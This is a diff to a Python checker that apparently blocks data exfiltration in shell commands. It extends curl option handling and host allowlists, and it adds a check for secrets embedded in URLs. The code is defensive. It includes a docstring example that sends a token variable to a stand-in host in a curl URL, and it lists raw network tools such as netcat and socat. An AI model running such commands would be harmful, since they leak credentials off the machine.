@@ -14,7 +14,8 @@ import re
 from .argv import option_values, positionals, short_option_values, texts
 from .context import Checker, Invocation
 from .model import EXFILTRATION, Denial
-from .network import host_of, may_receive
+from . import network
+from .network import check_secret_in, host_of
 from .shell_state import Value
 
 # curl options that take a value (so the value is not mistaken for a URL).
@@ -32,7 +33,9 @@ CURL_VALUED = frozenset(
 _CURL_SENDS = {
     "-d": True, "--data": True, "--data-ascii": True, "--data-binary": True,
     "--data-urlencode": True, "--json": True, "-F": True, "--form": True,
-    "--data-raw": False, "--form-string": False,
+    "--data-raw": False, "--form-string": False, "-H": False, "--header": False, "-u": False,
+    "--user": False, "-b": False, "--cookie": False, "-A": False, "--user-agent": False,
+    "-e": False, "--referer": False,
 }  # fmt: skip
 _CURL_FILES = ("-T", "--upload-file", "-K", "--config")
 _WGET_FILES = ("--post-file", "--body-file")
@@ -41,6 +44,7 @@ _RAW_CLIENTS = frozenset({"nc", "ncat", "netcat", "telnet", "socat"})
 _REMOTE_SHELLS = frozenset({"ssh", "sftp", "ftp", "tftp"})
 _REMOTE_COPIES = frozenset({"scp", "rsync"})
 _HTTPIE = frozenset({"http", "https"})
+_HTTP_CLIENTS = frozenset({"curl", "wget", "http", "https", "aria2c", "lynx", "w3m", "fetch"})
 _SSH_VALUED = ("-p", "-i", "-l", "-o", "-F", "-b", "-P", "-J", "-L", "-R", "-D", "-W")
 _SOCAT_CONNECT = re.compile(
     r"^(?:TCP[46]?|UDP[46]?|SCTP|SSL|OPENSSL|DCCP)(?:-CONNECT|-SENDTO)?:([^:,]+)", re.I
@@ -49,6 +53,8 @@ _SOCAT_CONNECT = re.compile(
 
 def check_sending(inv: Invocation, an: Checker) -> None:
     name = inv.name
+    if name in _HTTP_CLIENTS:
+        _urls_carry_nothing(inv, an)
     if name == "curl":
         _curl(inv, an)
     elif name == "wget":
@@ -62,6 +68,23 @@ def check_sending(inv: Invocation, an: Checker) -> None:
         _remote_copy(inv, an)
     elif name in _HTTPIE:
         _httpie(inv, an)
+
+
+def _urls_carry_nothing(inv: Invocation, an: Checker) -> None:
+    """A URL is data too: `curl "https://x.example/?k=$TOKEN"` sends the variable away."""
+    for arg in inv.args:
+        raw = arg.raw.strip("'\"")
+        if "://" not in raw:
+            continue
+        if arg.text is not None:
+            check_secret_in(arg.text, f"`{inv.name}`'s URL")
+            continue
+        # Only the part before the first expansion is known: it must name the host.
+        known = re.split(r"[$`]", raw, maxsplit=1)[0]
+        rest = known.split("://", 1)[1]
+        host = host_of(known) if "/" in rest or "?" in rest else ""
+        what = f"`{inv.name}` puts a value only known at run time in a URL"
+        _require(inv, an, [host], what, reading=True)
 
 
 def _sends_stdin(inv: Invocation) -> bool:
@@ -171,10 +194,18 @@ def _takes_next(option: str, valued: frozenset[str]) -> bool:
     return False
 
 
-def _require(inv: Invocation, an: Checker, targets: list[str], what: str) -> None:
+def _require(
+    inv: Invocation, an: Checker, targets: list[str], what: str, *, reading: bool = False
+) -> None:
+    """Every target must be the machine itself or listed: by the session for data leaving
+    the machine, or on the whole fetch list (`reading`) for a URL that only reads."""
     hosts = [host_of(t) if t else "" for t in targets] or [""]
     for host in hosts:
-        if not host or not may_receive(host, an.config):
+        fine = host and (
+            network.may_receive(host, an.config)
+            or (reading and network.listed(host, network.fetch_domains(an.config)))
+        )
+        if not fine:
             where = host or "a host only known at run time"
             raise Denial(
                 EXFILTRATION,
